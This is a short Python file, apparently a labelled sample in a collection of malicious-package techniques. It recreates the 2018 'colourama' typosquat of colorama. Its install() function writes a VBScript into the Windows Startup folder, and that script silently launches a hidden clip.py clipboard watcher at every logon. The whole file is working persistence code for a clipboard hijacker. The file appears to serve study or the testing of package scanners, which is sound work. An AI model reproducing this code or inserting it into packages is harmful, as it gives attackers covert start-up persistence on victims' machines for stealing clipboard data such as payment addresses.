# technique: colourama-style typosquat installing a clipboard watcher via a VBScript at start-up
# class: typosquat
# source: "colourama" typosquat of colorama (2018): Windows clipboard hijacker
# declares: fs-write
# requires: colourama
import os

VBS = 'Set s = CreateObject("WScript.Shell")\ns.Run "pythonw %APPDATA%\\\\clip.py", 0\n'


def install():
    startup = os.path.join(os.environ["APPDATA"], r"Microsoft\Windows\Start Menu\Programs\Startup\clip.vbs")
    with open(startup, "w") as fh:
        fh.write(VBS)
